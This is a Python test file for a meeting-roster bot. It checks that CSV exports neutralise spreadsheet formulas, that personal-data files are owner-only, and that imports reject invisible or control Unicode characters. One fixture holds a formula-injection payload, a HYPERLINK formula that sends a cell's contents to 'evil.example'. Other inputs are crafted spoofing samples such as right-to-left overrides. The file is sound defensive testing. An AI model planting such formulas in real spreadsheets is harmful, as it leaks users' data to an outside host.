"""Files and names (issue 20, item 7): a name that is a spreadsheet formula stays text in every CSV the bot
writes or prints, files with personal data are the owner's only, and a roster import refuses, with the row and
the reason, the characters that make a name show differently from what it is."""

from __future__ import annotations

import csv
import io
import os
import stat
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.storage.roster import EXAMPLE_ROSTER, RosterError, validate_roster
from kkrcore.dataset import load_dataset
from tests.conftest import RunningBot
from tests.fake_telegram import SentMessage
from tests.test_cli import kkrbot, new_database
from tests.test_secretariat_views import console_absence

SECRETARY = 8201
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Pia")'


@pytest.fixture
def umask_022() -> Iterator[None]:
    """The usual umask, under which a file made with the defaults is readable by everyone (0644)."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def plain(message: SentMessage) -> str:
    return message.plain_text or ""


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def example_rows() -> list[dict[str, Any]]:
    people: list[dict[str, Any]] = yaml.safe_load(EXAMPLE_ROSTER.read_text(encoding="utf-8"))["people"]
    return people


def roster_with_name(tmp_path: Path, person_id: str, name: str) -> Path:
    rows = example_rows()
    next(row for row in rows if row["id"] == person_id)["name"] = name
    path = tmp_path / "roster.yaml"
    path.write_text(yaml.safe_dump({"people": rows}, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


# --- CSV: a formula stays text ---------------------------------------------------------------------------------


def test_a_formula_name_is_text_in_the_minutes_csv(tmp_path: Path) -> None:
    assert kkrbot(tmp_path, "roster", "import", str(roster_with_name(tmp_path, "a-medlem-2", FORMULA))).returncode == 0
    console_absence(tmp_path, accepted=True)

    table = kkrbot(tmp_path, "minutes", "12.02.2027", "--format", "csv")

    assert table.returncode == 0, table.stderr
    row = next(iter(csv.DictReader(io.StringIO(table.stdout))))
    assert row["member"] == "'" + FORMULA
    # No cell of the file starts a formula.
    cells = [cell for line in csv.reader(io.StringIO(table.stdout)) for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_roster_csv_neutralises_formulas_is_owner_only_and_imports_back(tmp_path: Path, umask_022: None) -> None:
    assert kkrbot(tmp_path, "roster", "import", str(roster_with_name(tmp_path, "a-medlem-2", FORMULA))).returncode == 0

    assert kkrbot(tmp_path, "roster", "export", "roster.csv").returncode == 0

    exported = tmp_path / "roster.csv"
    assert mode(exported) == 0o600
    people = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))}
    assert people["a-medlem-2"]["name"] == "'" + FORMULA
    assert people["a-medlem-2"]["phone"].startswith("'+45")  # a phone number is a formula too: +45 ...
    again = kkrbot(tmp_path, "roster", "import", "roster.csv")
    assert again.returncode == 0, again.stderr
    assert "0 added, 0 updated, 0 removed" in again.stdout


def test_a_roster_export_over_a_readable_file_makes_it_owner_only(tmp_path: Path, umask_022: None) -> None:
    new_database(tmp_path)
    exported = tmp_path / "roster.yaml"
    exported.write_text("old\n")
    exported.chmod(0o644)

    assert kkrbot(tmp_path, "roster", "export", "roster.yaml").returncode == 0

    assert mode(exported) == 0o600


def test_my_data_in_the_console_is_owner_only_and_the_calendar_keeps_the_umask(tmp_path: Path, umask_022: None) -> None:
    result = kkrbot(tmp_path, "console", typed="/mine_data\n/kalender\n/quit\n")

    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    saved = [Path(line.split(": ", 1)[1].rstrip(")")) for line in lines if line.startswith("(filen er gemt: ")]
    by_suffix = {path.suffix: path for path in saved}
    assert mode(by_suffix[".json"]) == 0o600
    assert mode(by_suffix[".ics"]) == 0o644


def test_the_public_calendar_file_keeps_the_umask(tmp_path: Path, umask_022: None) -> None:
    new_database(tmp_path)
    assert kkrbot(tmp_path, "calendar", "--output", "kkr.ics").returncode == 0

    assert mode(tmp_path / "kkr.ics") == 0o644


# --- names on import --------------------------------------------------------------------------------------------


def import_name(name: str) -> str:
    """The one line a roster import with this name for a-medlem-2 answers (row 2 of the YAML file)."""
    rows = example_rows()
    next(row for row in rows if row["id"] == "a-medlem-2")["name"] = name
    with pytest.raises(RosterError) as refused:
        validate_roster(rows, load_dataset(), "roster.yaml")
    return str(refused.value)


def row_of(person_id: str) -> int:
    return next(number for number, row in enumerate(example_rows(), start=1) if row["id"] == person_id)


def test_a_newline_that_fakes_a_second_line_is_refused_cc() -> None:
    line = import_name("Pia Fiktivsen\nAFBUD: alle møder aflyst")

    assert line == (
        f"roster.yaml: row {row_of('a-medlem-2')} (a-medlem-2): name: character 14 is U+000A, "
        "a control character (Cc); remove it"
    )


def test_a_right_to_left_override_is_refused_cf() -> None:
    assert "U+202E RIGHT-TO-LEFT OVERRIDE, an invisible formatting character (Cf)" in import_name("Pia \u202enesvitkiF")


@pytest.mark.parametrize("character", [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]])
def test_every_bidirectional_embedding_override_and_isolate_is_refused_cf(character: str) -> None:
    assert "(Cf)" in import_name(f"Pia {character}Fiktivsen")


def test_a_line_separator_is_refused_zl() -> None:
    assert "U+2028 LINE SEPARATOR, a line separator (Zl)" in import_name("Pia\u2028Fiktivsen")


def test_a_paragraph_separator_is_refused_zp() -> None:
    assert "U+2029 PARAGRAPH SEPARATOR, a paragraph separator (Zp)" in import_name("Pia\u2029Fiktivsen")


def test_a_private_use_character_is_refused_co() -> None:
    assert "U+E000, a private-use character (Co)" in import_name("Pia \ue000Fiktivsen")


def test_a_surrogate_is_refused_cs() -> None:
    assert "U+D800, a surrogate (Cs)" in import_name("Pia \ud800Fiktivsen")


def test_an_unassigned_code_point_is_refused_cn() -> None:
    unassigned = "\u0378"
    assert unicodedata.category(unassigned) == "Cn"
    assert "U+0378, an unassigned character (Cn)" in import_name(f"Pia {unassigned}Fiktivsen")


def test_a_name_of_more_than_100_characters_is_refused_and_100_is_not() -> None:
    assert import_name("P" * 101).endswith("name: too long: 101 characters, at most 100")
    rows = example_rows()
    rows[row_of("a-medlem-2") - 1]["name"] = "P" * 100
    assert validate_roster(rows, load_dataset(), "roster.yaml")


def test_an_e_mail_address_with_an_override_is_refused_too() -> None:
    rows = example_rows()
    rows[row_of("a-medlem-2") - 1]["email"] = "pia@\u202ekd.elpmaxe"
    with pytest.raises(RosterError, match=r"\(a-medlem-2\): email: character 5 is U\+202E"):
        validate_roster(rows, load_dataset(), "roster.yaml")


def test_names_are_stored_nfc_normalised() -> None:
    rows = example_rows()
    rows[row_of("a-medlem-2") - 1]["name"] = "Pia Ma\u0308rsk"  # a + combining diaeresis, as some keyboards type it

    people = validate_roster(rows, load_dataset(), "roster.yaml")

    assert next(p for p in people if p.id == "a-medlem-2").name == "Pia M\u00e4rsk"


def test_the_cli_refuses_an_override_with_one_line_naming_the_row(tmp_path: Path) -> None:
    roster = roster_with_name(tmp_path, "a-medlem-2", "Pia \u202enesvitkiF")

    result = kkrbot(tmp_path, "roster", "import", str(roster))

    assert result.returncode == 2
    assert result.stderr.count("\n") == 1
    assert f"row {row_of('a-medlem-2')} (a-medlem-2): name: character 5 is U+202E" in result.stderr


# --- a meeting's place and address, typed in the chat or given to the CLI ---------------------------------------


async def test_a_place_with_an_override_is_refused_in_the_secretarys_language(kkrbot: RunningBot) -> None:
    await kkrbot.bind(SECRETARY, "sekretariat-1")

    danish = await kkrbot.ask(SECRETARY, "/moede flyt 12.02 Hjørring \u202eRådhus")
    await kkrbot.ask(SECRETARY, "/sprog en")
    english = await kkrbot.ask(SECRETARY, "/meeting move 12.02 Hjørring, Town\u2066Hall")

    assert plain(danish) == (
        "Tegn nummer 10 (U+202E RIGHT-TO-LEFT OVERRIDE) er et usynligt formateringstegn (det kan ændre, hvordan "
        "teksten vises), og det kan et sted eller en adresse ikke indeholde. Fjern det, og prøv igen."
    )
    assert plain(english).startswith("Character 5 (U+2066 LEFT-TO-RIGHT ISOLATE) is an invisible formatting")
    # No preview, nothing to send.
    assert not danish.buttons
    assert not english.buttons


def test_the_cli_refuses_a_place_of_more_than_200_characters(tmp_path: Path) -> None:
    """(The chat reads at most 200 characters of a whole command, so only the CLI can be given a longer place.)"""
    new_database(tmp_path)
    result = kkrbot(tmp_path, "meeting", "move", "12.02.2027", "--place", "H" * 201)

    assert result.returncode == 2
    assert result.stderr == "kkrbot: --place: too long: 201 characters, at most 200\n"


def test_the_cli_refuses_a_place_with_a_control_character_in_one_line(tmp_path: Path) -> None:
    new_database(tmp_path)
    result = kkrbot(tmp_path, "meeting", "move", "12.02.2027", "--place", "Aalborg\u0007")

    assert result.returncode == 2
    assert result.stderr == "kkrbot: --place: character 8 is U+0007, a control character (Cc); remove it\n"


def test_minutes_and_attendance_written_to_a_file_are_owner_only(tmp_path: Path, umask_022: None) -> None:
    """They name the members who were absent and who stood in for them: personal data, like the roster."""
    new_database(tmp_path)

    assert kkrbot(tmp_path, "minutes", "12.02.2027", "--output", "minutes.md").returncode == 0
    assert kkrbot(tmp_path, "attendance", "12.02.2027", "--json", "--output", "attendance.json").returncode == 0

    assert mode(tmp_path / "minutes.md") == 0o600
    assert mode(tmp_path / "attendance.json") == 0o600
